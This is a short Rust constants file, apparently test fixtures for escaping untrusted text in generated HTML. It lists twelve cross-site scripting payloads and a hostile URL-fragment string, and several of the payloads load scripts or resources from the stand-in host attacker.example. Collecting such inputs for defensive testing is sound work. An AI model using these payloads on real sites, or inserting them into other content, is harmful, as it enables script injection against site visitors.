//! What an author, or somebody with his password, may try.

/// What stands in for the texts, one after the other.
pub(crate) const ATTACKS: [&str; 12] = [
    "<script>alert('a')</script>",
    "<img src=https://attacker.example/b onerror=alert('b')>",
    "\"><svg onload=alert('c')>",
    "'><iframe src=https://attacker.example/d></iframe>",
    "</title></style></script><script src=https://attacker.example/e></script>",
    "javascript:alert('f')",
    "<!-- --><base href=https://attacker.example/>",
    "]]><style>*{background:url(https://attacker.example/h)}</style>",
    "&lt;script&gt;alert('i')&lt;/script&gt;",
    "<a href=\"javascript:alert('j')\">click</a>",
    "{{constructor.constructor('alert(1)')()}} ${alert('k')}",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/l'>\u{202e}",
];

/// What ends each address: all that an address may have and that means something in HTML.
pub(crate) const ADDRESS: &str = "#'onfocus='alert(1)'&quot;onload=alert(2)&gt;&lt;script&gt;alert(3)&lt;/script&gt;%22%3E%3Csvg%20onload=alert(4)%3E#'";
